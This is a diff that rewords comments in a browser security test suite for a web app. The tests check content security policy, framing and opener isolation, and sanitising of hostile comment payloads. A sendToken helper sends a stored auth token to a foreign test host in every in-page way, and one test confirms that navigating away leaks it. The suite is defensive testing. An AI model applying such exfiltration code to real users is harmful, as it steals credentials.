@@ -6,12 +6,12 @@ import { ELSEWHERE, payloads } from '@gemas/mocks/payloads';
 import { expect, heading, test } from './harness.ts';
 
 const FERNANDA = '48213';
-/** Another key than that of the build. */
+/** A key other than the build's. */
 const OTHER_KEY = 'ab'.repeat(32);
 
 interface Foreign {
   origin: string;
-  /** Addresses that it was asked for. */
+  /** Addresses that the foreign server was asked for. */
   asked: string[];
   close(): void;
 }
@@ -52,12 +52,12 @@ test('a foreign page can neither frame the app nor reach into a window that it o
     }, address),
   ]);
   await expect(heading(opened, /Ávila/)).toBeVisible();
-  // Another opener policy parts the two windows.
+  // Pages with different opener policies cannot access each other's windows.
   const seen = () => page.evaluate(() => (window as unknown as { opened: Window }).opened.closed);
   await expect.poll(seen).toBe(true);
   expect(await opened.evaluate(() => window.opener)).toBeNull();
   foreign.close();
-  // The browser reports the refused frame, as it should.
+  // The browser reports the refused frame, as expected.
   violations.length = 0;
 });
 
@@ -75,13 +75,16 @@ test('whoever has the app can make a link, and nobody else', async ({ page, site
     await page.goto('about:blank');
   }
   expect(await server.requests('POST', '/auth/login')).toEqual([]);
-  // The key is in the page, where everybody can read it (docs/security.md).
+  // The key is readable in the page, so anybody can use it (docs/security.md).
   const [key = ''] = /\b[\da-f]{64}\b/.exec(await (await fetch(site.address)).text()) ?? [];
   await page.goto(`${site.address}?code=${await encryptLoginCode(FERNANDA, key)}`);
   await expect(heading(page, /Ávila/)).toBeVisible();
 });
 
-/** Payloads that one comment holds: as many comments as are rendered at once. payloads.spec.ts shows each by itself. */
+/**
+ * Number of payloads per comment. The number of comments is what a screen renders at once. payloads.spec.ts shows each
+ * payload alone.
+ */
 const OF_A_COMMENT = 30;
 
 test('a thread of every hostile comment runs nothing and asks no other host', async ({
@@ -120,11 +123,11 @@ test('a thread of every hostile comment runs nothing and asks no other host', as
   await expect(hostile).toHaveCount(0);
   expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
   expect(asked).toEqual([]);
-  // The sanitiser parses html in a document of its own, in which the policy stops handlers and reports them.
+  // The sanitiser parses html in a separate document, in which the policy blocks handlers and reports them.
   violations.length = 0;
 });
 
-/** Sends the token to another host in every way that a page has without leaving. Runs in the page. */
+/** Sends the token to another host in every way that a page has without navigating. Runs in the page. */
 function sendToken(host: string): void {
   const to = (way: string) => `${host}/${way}?${localStorage.token}`;
   const add = (name: string, attributes: Record<string, string>) => {
@@ -133,7 +136,7 @@ function sendToken(host: string): void {
       try {
         element.setAttribute(key, value);
       } catch {
-        // Trusted Types refuse it.
+        // Trusted Types block it.
       }
     }
     document.body.append(element);
@@ -170,7 +173,7 @@ function sendToken(host: string): void {
     try {
       way();
     } catch {
-      // The policy refuses it.
+      // The policy blocks it.
     }
   }
 }
@@ -184,11 +187,11 @@ test('code in the app can send the token to no other host, unless it leaves the 
   await enter(FERNANDA);
   await expect(heading(page, /Ávila/)).toBeVisible();
   await page.evaluate(sendToken, foreign.origin);
-  // Whatever was sent has arrived before a page that is asked for later.
+  // Waits until earlier requests would have arrived: more than 15 were blocked.
   await expect.poll(() => violations.length).toBeGreaterThan(15);
   const token = await page.evaluate(() => localStorage.token);
   expect(foreign.asked).toEqual([]);
-  // No policy stops a page from being left (docs/security.md).
+  // No policy can prevent a page from navigating away (docs/security.md).
   await page.evaluate((to) => window.location.assign(to), `${foreign.origin}/left?${token}`);
   await expect(heading(page, 'Ajena')).toBeVisible();
   expect(foreign.asked).toContain(`/left?${token}`);
